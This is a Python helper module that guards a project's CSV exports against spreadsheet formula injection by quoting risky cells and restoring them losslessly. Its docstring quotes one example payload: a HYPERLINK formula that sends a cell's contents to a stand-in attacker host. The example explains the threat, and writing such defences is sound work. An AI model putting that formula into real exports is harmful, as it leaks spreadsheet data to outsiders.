"""CSV cells that a spreadsheet opens as text, never as a formula ("CSV injection").

Excel, LibreOffice and Google Sheets run a cell that starts with `=`, `+`, `-` or
`@` (and, after a tab or carriage return, whatever follows) as a formula: a
rationale such as `=HYPERLINK("http://evil.example/?"&A1, "see")` would leak the
sheet or run commands. Following OWASP, such text is written with a leading
single quote, which spreadsheets take as "this is text".

Only strings are touched: numbers (a negative kappa, -0.25) are written as they
are, so that they stay numbers. To keep the export lossless, text that already
starts with quotes before one of those characters gets one more quote, and
`cell_restore` removes exactly one: `cell_restore(cell_safe(text)) == text` for
every text. JSON Lines need none of this and keep the raw text.

No Django here: plain functions, used by every CSV writer of the project.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def _looks_like_formula(text: str) -> bool:
    return text.lstrip(QUOTE).startswith(FORMULA_STARTS)


def cell_safe(value: object) -> object:
    """The value to write in a CSV cell: text a spreadsheet would run gets a leading quote."""
    if isinstance(value, str) and _looks_like_formula(value):
        return QUOTE + value
    return value


def cell_restore(text: str) -> str:
    """The original text of a cell written through `cell_safe`."""
    if text.startswith(QUOTE) and _looks_like_formula(text):
        return text[1:]
    return text


def row_safe(values: dict) -> dict:
    """A row (column -> value) ready for csv.DictWriter."""
    return {column: cell_safe(value) for column, value in values.items()}
